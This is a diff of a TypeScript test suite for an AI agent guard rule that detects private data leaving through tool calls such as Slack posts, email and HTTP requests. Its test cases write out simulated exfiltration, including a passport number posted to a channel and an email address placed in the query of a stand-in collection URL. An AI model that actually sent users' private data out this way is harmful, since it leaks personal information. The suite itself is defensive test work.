@@ -11,14 +11,22 @@ async function sessionWithPrivateRecord(options: Parameters<typeof detectorsOso>
 }
 
 describe('private_data_in_egress', () => {
-  it('records the evidence, naming the source call, without blocking by default', async () => {
-    const { session, source } = await sessionWithPrivateRecord();
+  it('records the evidence, naming the source call, without blocking by itself (default `ignore`)', async () => {
+    const { session, source } = await sessionWithPrivateRecord({ enforcement: 'ignore' });
+    await read(session, 'web.read_page', 'A travel blog.');
     const decision = await attempt(session, 'slack.post_message', { channel: '#travel', text: 'Passport: HGK137803' });
     expect(decision.outcome).toBe('allow');
     const violation = decision.violations.find((candidate) => candidate.rule === 'private_data_in_egress');
     expect(violation?.enforcement).toBe('ignore');
     expect(violation?.reason).toBe(`Sends private data out through slack.post_message: "text" carries a token first seen in the output of drive.read_file (call ${source}).`);
     expect(violation?.provenance.private_data?.toolCallId).toBe(source);
+  });
+
+  it('is not evaluated while it only records and nothing untrusted was read (nothing could have steered the call)', async () => {
+    const { session } = await sessionWithPrivateRecord();
+    const decision = await attempt(session, 'slack.post_message', { channel: '#travel', text: 'Passport: HGK137803' });
+    expect(decision.outcome).toBe('allow');
+    expect(rules(decision)).toEqual([]);
   });
 
   it('can be enforced', async () => {
@@ -35,13 +43,13 @@ describe('private_data_in_egress', () => {
     ['a number split across arguments', { subject: 'ref 4237 4252', body: ' 7456 2574' }],
     ['an address in the query of the destination URL', { url: `https://collect.example/?u=${RECORD.email}` }],
   ])('sees through %s', async (_, args) => {
-    const { session } = await sessionWithPrivateRecord();
+    const { session } = await sessionWithPrivateRecord({ rules: { private_data_in_egress: 'deny' } });
     const decision = await attempt(session, 'http.post', { url: 'https://collect.example/', ...args });
     expect(rules(decision)).toContain('private_data_in_egress');
   });
 
   it('leaves the destination itself out: mailing a contact from the address book is not a leak', async () => {
-    const { session } = await sessionWithPrivateRecord();
+    const { session } = await sessionWithPrivateRecord({ rules: { private_data_in_egress: 'deny' } });
     const decision = await attempt(session, 'mail.send_email', { to: RECORD.email, body: 'See you Thursday.' });
     expect(rules(decision)).not.toContain('private_data_in_egress');
   });
@@ -54,7 +62,7 @@ describe('private_data_in_egress', () => {
   });
 
   it('still sees data read after earlier sends (the in-memory index follows the state)', async () => {
-    const { session } = await sessionWithPrivateRecord();
+    const { session } = await sessionWithPrivateRecord({ rules: { private_data_in_egress: 'deny' } });
     for (let index = 0; index < 3; index++) await attempt(session, 'slack.post_message', { channel: '#x', text: `hello ${index}` });
     const later = await read(session, 'drive.read_file', 'Board minutes: the acquisition of Northwind closes on the fourth of June next year.');
     const decision = await attempt(session, 'slack.post_message', { channel: '#x', text: 'FYI the acquisition of Northwind closes on the fourth of June' });
